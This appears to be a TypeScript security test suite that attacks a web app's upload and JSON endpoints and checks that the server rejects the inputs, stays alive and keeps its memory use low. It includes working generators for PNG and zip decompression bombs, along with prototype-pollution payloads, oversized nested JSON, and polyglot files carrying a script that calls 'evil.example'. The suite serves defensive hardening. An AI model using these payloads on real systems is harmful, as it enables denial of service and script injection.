import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { application, PDF, zipOf } from '../support/application.ts';
import { picture } from '../support/form.ts';
import { request } from '../support/http.ts';
import { memoryOf } from '../support/process-memory.ts';
import { type Attack, countsOf, require, type Target } from './target.ts';

/** One chunk of a PNG file. */
function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, crc] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A small PNG file that decodes to a huge picture of one colour. */
export function pngBomb(side: number): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(side, 4);
  head.set([1, 0, 0, 0, 0], 8);
  const rows = Buffer.alloc((Math.ceil(side / 8) + 1) * side);
  const signature = Buffer.from('89504e470d0a1a0a', 'hex');
  return Buffer.concat([
    ...[signature, chunk('IHDR', head), chunk('IDAT', deflateSync(rows, { level: 9 })), chunk('IEND', Buffer.alloc(0))],
  ]);
}

/** A zip archive that looks like a Word document, whose text is a gigabyte of zeros in a megabyte. */
function zipBomb(): Buffer {
  const zeros = deflateRawSync(Buffer.alloc(1024 * 1024 * 1024), { level: 9 });
  const archive = zipOf('[Content_Types].xml', 'word/document.xml');
  const end = archive.length - 22;
  const directory = archive.readUInt32LE(end + 16);
  const bomb = Buffer.concat([archive.subarray(0, directory), zeros, archive.subarray(directory)]);
  bomb.writeUInt32LE(directory + zeros.length, bomb.length - 22 + 16);
  return bomb;
}

const productWith = (target: Target, image: Uint8Array) => {
  const body = new FormData();
  for (const [name, value] of Object.entries({ name: 'Bomb', description: 'x', link: 'https://example.com/' })) {
    body.append(name, value);
  }
  body.append('image', new Blob([new Uint8Array(image)]), 'picture.png');
  return request(target, '/projects/create', { body, token: target.admin });
};

/** Expects answers from 400 to 499, a living server, and little memory. */
async function held(target: Target, statuses: readonly number[]): Promise<string> {
  require(statuses.every((status) => status >= 400 && status < 500), countsOf(statuses));
  require((await request(target, '/healthz')).status === 200, 'the server does not answer any more');
  const memory = Math.round(await memoryOf(target.pid, 'VmHWM'));
  require(memory <= 512, `the server took ${memory} MB`);
  return `${countsOf(statuses)}; at most ${memory} MB`;
}

async function pixels(target: Target): Promise<string> {
  const bomb = pngBomb(17_000);
  const answers = await Promise.all([1, 2, 3].map(() => productWith(target, bomb)));
  return `${Math.round(bomb.length / 1024)} KB each: ${await held(
    target,
    answers.map(({ status }) => status),
  )}`;
}

async function archives(target: Target): Promise<string> {
  const answer = await request(target, '/jobs/apply', { body: application({}, zipBomb(), 'resume.docx') });
  const gzip = await request(target, '/contacts/create', {
    ...{ body: new Uint8Array(deflateSync(Buffer.alloc(100_000_000))) },
    headers: { 'Content-Type': 'application/json', 'Content-Encoding': 'deflate' },
  });
  // Nothing is extracted: the resume may be stored as it is, as a file to download.
  require([201, 200, 413, 415].includes(answer.status), `a zip bomb was answered with ${answer.status}`);
  return `the resume: ${answer.status}; a compressed body: ${await held(target, [gzip.status])}`;
}

const SCRIPT = '<script>fetch("//evil.example")</script>';

async function polyglots(target: Target): Promise<string> {
  const png = Buffer.from(await (await picture(8, 8)).arrayBuffer());
  // A picture with a page behind it is stored without what is no picture.
  const behind = await productWith(target, Buffer.concat([png, Buffer.from(SCRIPT)]));
  require(behind.status === 201, `a picture with a script behind it: ${behind.status}`);
  const { src } = (await request(target, '/projects/all', { headers: { Accept: 'application/json; image=url' } }))
    .json[0].media;
  const stored = await request(target, src);
  require(!stored.text.includes('<script>'), 'the stored picture contains the script');
  const refused = await Promise.all([
    productWith(target, Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`)),
    productWith(target, Buffer.concat([Buffer.from('GIF89a/*'), Buffer.from(`*/=1;${SCRIPT}`)])),
    productWith(target, Buffer.concat([PDF, png])),
    request(target, '/jobs/apply', { body: application({}, Buffer.concat([Buffer.from('MZ'), PDF]), 'resume.pdf') }),
    request(target, '/jobs/apply', { body: application({}, Buffer.from(`<html>${SCRIPT}`), 'resume.pdf') }),
  ]);
  const resume = await request(target, '/jobs/apply', {
    body: application({}, Buffer.concat([PDF, Buffer.from(SCRIPT)]), 'resume.html'),
  });
  const file = await request(target, `/jobs/resume/${resume.json._id}`, { token: target.admin });
  const [type = '', shown = '', sniffed] = ['content-type', 'content-disposition', 'x-content-type-options'].map(
    (header) => file.headers.get(header) ?? '',
  );
  const isDownload = /^attachment; filename="[^"]+\.pdf"/.test(shown) && type === 'application/pdf';
  require(isDownload && sniffed === 'nosniff', `a PDF with a script is sent as ${type}, ${shown}`);
  return `${await held(
    target,
    refused.map(({ status }) => status),
  )}; a PDF with a script is only downloaded, as a PDF`;
}

async function manyParts(target: Target): Promise<string> {
  const body = new FormData();
  for (let part = 0; part < 10_000; part += 1) body.append(`part${part}`, 'x');
  const nested = '['.repeat(100_000);
  const wide = `{${Array.from({ length: 100_000 }, (_, index) => `"${index}":1`).join(',')}}`;
  const json = (text: string) =>
    request(target, '/contacts/create', { body: text, headers: { 'Content-Type': 'application/json' } });
  const answers = await Promise.all([request(target, '/jobs/apply', { body }), json(nested), json(wide)]);
  return held(
    target,
    answers.map(({ status }) => status),
  );
}

async function prototypes(target: Target): Promise<string> {
  const texts = [
    '{"__proto__":{"name":"x","isAdmin":true},"message":"x"}',
    '{"constructor":{"prototype":{"role":"admin"}},"email":"x"}',
  ];
  const answers = await Promise.all(
    texts.map((body) => request(target, '/contacts/create', { body, headers: { 'Content-Type': 'application/json' } })),
  );
  const body = new FormData();
  body.append('__proto__', 'x');
  body.append('__proto__[role]', 'admin');
  const inForm = await request(target, '/jobs/apply', { body });
  const inQuery = await request(target, '/desk/enquiries?__proto__[limit]=1&constructor=x', { token: target.admin });
  require(inQuery.status === 200, `__proto__ in a query: ${inQuery.status}`);
  const refused = [...answers, inForm].map(({ status }) => status);
  const anybody = await request(target, '/admins/accounts');
  require(anybody.status === 401, 'a polluted prototype has opened the back office');
  return held(target, refused);
}

/** Attacks by what is uploaded. */
export const files: readonly Attack[] = [
  ['pictures of 17,000 × 17,000 pixels', pixels],
  ['zip bombs: a resume, and a compressed body', archives],
  ['polyglots: files of two formats', polyglots],
  ['10,000 parts, 100,000 brackets, 100,000 fields', manyParts],
  ['__proto__ in JSON, form and query', prototypes],
];
